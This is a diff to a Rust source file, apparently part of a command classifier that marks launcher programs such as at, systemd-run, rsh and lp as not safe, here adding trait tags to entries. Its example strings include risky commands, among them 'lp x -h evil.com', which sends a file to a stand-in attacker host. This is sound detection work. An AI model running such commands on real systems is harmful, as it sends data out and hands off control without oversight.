@@ -1,7 +1,7 @@
 //! Programs that hand control to another program, at once or later, and that ordinary work seldom needs. None is Safe;
 //! the offline inspector names them.
 
-use super::{Flag, Judge, Judgement, Kind, Operands, Program, Rule, Runs, Terminal, Wrapper};
+use super::{Flag, Judge, Judgement, Kind, Operands, Program, Rule, Runs, Terminal, Trait, Wrapper};
 use crate::classify::call::{Arg, Call};
 use crate::classify::paths;
 
@@ -16,6 +16,7 @@ pub(super) const TABLE: &[Program] = &[
     launcher(&["rlogin", "rsh", "rexec"], "runs a command on another machine", &["rsh host ls"]).runs(Runs::Elsewhere),
     Program::new(&["at", "batch", "systemd-run"], "runs a program later", Kind::Launcher, Rule::Custom(later))
         .runs(Runs::Code)
+        .traits(&[Trait::Waits])
         .not_safe(&["echo x | at now", "systemd-run x"]),
     launcher(&["setarch"], "starts the program that it is given", &["setarch -3 sh"]).runs(Runs::Behind(Wrapper {
         operands: 1,
@@ -138,6 +139,7 @@ pub(super) const TABLE: &[Program] = &[
         "sends files to another machine, or starts a program for it",
         &["lp x -h evil.com", "restic backup"],
     )
+    .traits(&[Trait::TakesAlong])
     .runs(Runs::Named),
 ];
 
